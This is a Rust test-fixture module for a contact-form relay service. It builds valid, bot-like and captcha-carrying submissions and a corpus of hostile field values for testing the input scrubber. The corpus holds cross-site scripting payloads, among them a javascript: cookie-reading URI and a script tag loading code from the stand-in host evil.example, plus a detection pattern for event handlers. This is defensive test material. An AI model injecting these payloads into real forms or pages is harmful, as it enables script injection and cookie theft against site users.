// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Submission payload builders and hostile input corpora.

use axum::http::Method;
use contact_form_relay::gate::RelayRequest;
use serde_json::{json, Value};

/// Wrap a JSON payload as a plain POST from a fixed test client.
pub fn post_request(body: &Value) -> RelayRequest {
    RelayRequest {
        method: Method::POST,
        origin: None,
        referer: None,
        client_ip: Some("203.0.113.5".to_string()),
        body: body.to_string(),
    }
}

/// A form-load stamp far enough in the past to clear any fill-time check.
pub fn aged_timestamp() -> String {
    (chrono::Utc::now().timestamp_millis() - 30_000).to_string()
}

/// A form-load stamp of right now, as an instant bot submission carries.
pub fn instant_timestamp() -> String {
    chrono::Utc::now().timestamp_millis().to_string()
}

/// A complete, human-plausible submission from `email`.
pub fn valid_submission(email: &str) -> Value {
    json!({
        "name": "Test Sender",
        "email": email,
        "subject": "Hello from the test suite",
        "message": "A perfectly ordinary message body.",
        "_gotcha": "",
        "_timestamp": aged_timestamp(),
    })
}

/// A submission with the honeypot field filled, as naive bots do.
pub fn bot_submission(email: &str) -> Value {
    let mut body = valid_submission(email);
    body["_gotcha"] = json!("https://spam.example/offer");
    body
}

/// A submission posted the instant the form loaded.
pub fn instant_submission(email: &str) -> Value {
    let mut body = valid_submission(email);
    body["_timestamp"] = json!(instant_timestamp());
    body
}

/// A submission carrying a captcha token.
pub fn tokenized_submission(email: &str, token: &str) -> Value {
    let mut body = valid_submission(email);
    body["recaptchaToken"] = json!(token);
    body
}

/// Markup and script injection attempts for the scrubbing corpus.
pub fn hostile_field_values() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "<a href=\"javascript:void(0)\" onclick=stealCookies()>click</a>",
        "hello onmouseover=evil() world",
        "oonclick=nclick=reassembled",
        "javascrionload=pt:reassembled",
        "<<nested>>",
        "plain text that should survive",
        "unicode: 日本語 émojis 🎉",
    ]
}

/// Whether scrubbed text still contains anything the scrubber promises
/// to remove.
pub fn contains_forbidden(text: &str) -> bool {
    let lower = text.to_lowercase();
    if lower.contains('<') || lower.contains('>') {
        return true;
    }
    if lower.contains("javascript:") || lower.contains("data:") {
        return true;
    }
    let handler = regex::Regex::new(r"(?i)on\w+=").expect("handler pattern");
    handler.is_match(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_valid_submission_is_complete() {
        let body = valid_submission("user@example.com");
        for field in ["name", "email", "subject", "message", "_gotcha", "_timestamp"] {
            assert!(body.get(field).is_some(), "missing {field}");
        }
        assert_eq!(body["_gotcha"], "");
    }

    #[test]
    fn test_contains_forbidden_flags_raw_markup() {
        assert!(contains_forbidden("<b>hi</b>"));
        assert!(contains_forbidden("JAVASCRIPT:x"));
        assert!(contains_forbidden("a onload=b"));
        assert!(!contains_forbidden("clean text"));
    }
}
